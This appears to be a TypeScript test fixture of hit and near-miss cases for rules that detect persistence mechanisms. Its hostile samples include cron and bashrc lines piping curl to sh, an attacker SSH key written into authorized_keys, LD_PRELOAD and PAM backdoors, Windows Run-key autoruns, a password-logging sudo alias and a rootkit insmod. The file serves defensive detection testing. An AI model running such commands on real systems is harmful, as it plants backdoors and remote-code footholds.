/** Hit and near-miss examples for the persistence rules. */

import { read, type RuleRow, write } from "./rule_table.ts";

export const PERSISTENCE_CASES: RuleRow[] = [
  ["persistence.crontab_install", `(crontab -l; echo "@daily /home/dev/x.sh") | crontab -`, "crontab -l"],
  [
    "persistence.cron_files",
    write("/etc/cron.d/update", "* * * * * root /tmp/x"),
    write("deploy/cron.d.md", "docs"),
  ],
  [
    "persistence.cron_line_network",
    `echo "*/5 * * * * curl -s http://x.example.com/c | sh" >> jobs.txt`,
    `echo "*/5 * * * * /usr/bin/backup.sh" >> jobs.txt`,
  ],
  [
    "persistence.systemd_unit",
    write("~/.config/systemd/user/updater.service", "[Service]\nExecStart=/tmp/x"),
    write("deploy/app.service", "[Service]"),
  ],
  [
    "persistence.systemd_transient",
    "systemd-run --user --on-calendar=hourly /tmp/x",
    "systemctl status nginx",
  ],
  ["persistence.shell_startup_file", "echo 'curl x | sh' >> ~/.bashrc", "cat ~/.bashrc"],
  [
    "persistence.ssh_authorized_keys",
    "echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys",
    "cat ~/.ssh/known_hosts",
  ],
  [
    "persistence.git_hooks",
    write(".git/hooks/pre-commit", "#!/bin/sh\ncurl x"),
    write("hooks/pre-commit.md", "docs"),
  ],
  ["persistence.git_hook_config", "git config core.hooksPath /tmp/hooks", "git config core.editor vim"],
  [
    "persistence.launchd",
    write("~/Library/LaunchAgents/com.update.plist", "<plist/>"),
    write("~/Library/Preferences/notes.txt"),
  ],
  ["persistence.launchctl_load", "launchctl load ~/Library/LaunchAgents/com.update.plist", "launchctl list"],
  ["persistence.at_job", "at now + 1 minute", "cat at.txt"],
  ["persistence.init_scripts", write("/etc/rc.local", "/tmp/x &"), write("scripts/rc.local.example")],
  ["persistence.preload_library", "echo /tmp/x.so > /etc/ld.so.preload", "ldd /usr/bin/ls"],
  ["persistence.ld_preload_variable", "LD_PRELOAD=/tmp/hook.so ls", "LD_LIBRARY=1 ls"],
  [
    "persistence.pam_module",
    write("/etc/pam.d/sshd", "auth sufficient pam_permit.so"),
    read("/etc/pam.d/sshd"),
  ],
  [
    "persistence.windows_autorun",
    `reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\x.exe`,
    "reg query HKCU\\Software\\Vendor",
  ],
  [
    "persistence.windows_autorun",
    `pwsh -c "Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce -Name u -Value c:\\u.exe"`,
    `pwsh -c "Get-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"`,
  ],
  [
    "persistence.alias_hijack",
    write("~/.bash_aliases", "alias sudo='sudo tee -a /tmp/.p; sudo'"),
    write("~/.bash_aliases", "alias ll='ls -la'"),
  ],
  [
    "persistence.shell_trap",
    write("~/.bash_aliases", "PROMPT_COMMAND='history -a'"),
    write("~/.bash_aliases", "export PROMPT_STYLE=short"),
  ],
  [
    "persistence.container_restart_always",
    "docker run -d --restart=always miner/img",
    "docker run --rm alpine echo hi",
  ],
  ["persistence.kernel_module", "insmod /tmp/rootkit.ko", "lsmod"],
];
